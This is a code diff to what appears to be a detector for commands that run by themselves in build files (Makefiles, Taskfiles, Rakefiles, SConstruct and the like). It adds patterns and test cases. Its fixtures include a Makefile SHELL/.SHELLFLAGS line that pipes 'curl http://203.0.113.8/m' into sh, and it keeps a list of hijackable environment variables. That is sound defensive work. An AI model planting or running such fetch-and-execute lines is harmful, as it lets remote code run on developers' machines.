@@ -13,7 +13,8 @@ function readMakefile(text: string): ReadFile {
   for (const [, value = ""] of text.matchAll(
     /^[ ]*(?:override\s+|export\s+)*\.?SHELL(?:FLAGS)?\s*[:?+]?=\s*([^\n]+)$/gmu,
   ))
-    if (/\s-\w*c\s+\S|[|;&`]/u.test(value)) steps.push({ ...build, text: value.replaceAll("$$", "$") });
+    if (/\s-\w*c\s+\S|[|;&`]/u.test(value))
+      steps.push({ ...build, text: `${value.startsWith("-") ? "sh " : ""}${value.replaceAll("$$", "$")}` });
   for (const [, name = "", value = ""] of text.matchAll(
     /^[ ]*export\s+(GIT_SSH_COMMAND|LD_PRELOAD|BASH_ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|RUBYOPT|GIT_EXTERNAL_DIFF|CC|CXX|PATH)\s*[:?+]?=\s*([^\n]{1,400})$/gmu,
   ))
@@ -49,7 +50,7 @@ function readJustfile(text: string): ReadFile {
 
 function readTaskfile(text: string): ReadFile {
   const tree = yamlTree(text);
-  const steps = stepsAt(tree, /^(?:cmds?|sh|status|preconditions|command)$/u, build).map((step) => ({
+  const steps = stepsAt(tree, /^(?:cmds?|sh|status|preconditions|command|defer)$/u, build).map((step) => ({
     ...step,
     text: step.text.replaceAll(/\{\{[^}]*\}\}/gu, "task-value"),
   }));
@@ -175,6 +176,12 @@ export const builds: readonly Form[] = [
         text: "SHELL := /bin/sh -c 'curl http://203.0.113.8/m | sh'\n",
         runs: ["/bin/sh -c 'curl http://203.0.113.8/m | sh'"],
       },
+      {
+        path: "Makefile",
+        text: ".SHELLFLAGS := -c 'curl http://203.0.113.8/m | sh'\n",
+        runs: ["sh -c 'curl http://203.0.113.8/m | sh'"],
+      },
+      { path: "Makefile", text: "_ := $(shell (git log | head) &)\n", runs: ["(git log | head) &"] },
       { path: "Makefile", text: "SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\n", runs: [] },
     ],
     not_match: [{ path: "makefile.md", text: "# make" }],
@@ -228,10 +235,18 @@ export const builds: readonly Form[] = [
   {
     form: "build-script",
     kind: "self-running",
-    path: /\/extconf\.rb$|\/Rakefile$|\.rake$/u,
+    path: /\/(?:extconf\.rb|Rakefile|Podfile|Fastfile|Dangerfile|Guardfile|Capfile|Berksfile)$|\.rake$/u,
     read: program("ruby", "build"),
     match: [{ path: "ext/a/extconf.rb", text: "require 'mkmf'", runs: ["require 'mkmf'"] }],
     not_match: [{ path: "lib/a.rb", text: "x" }],
+  },
+  {
+    form: "build-script",
+    kind: "self-running",
+    path: /\/(?:SConstruct|SConscript|wscript|Snakefile|conanfile\.py|noxfile\.py|tasks\.py)$/u,
+    read: program("python", "build"),
+    match: [{ path: "SConstruct", text: "Program('a.c')", runs: ["Program('a.c')"] }],
+    not_match: [{ path: "src/task.py", text: "x" }],
   },
   {
     form: "gradle",
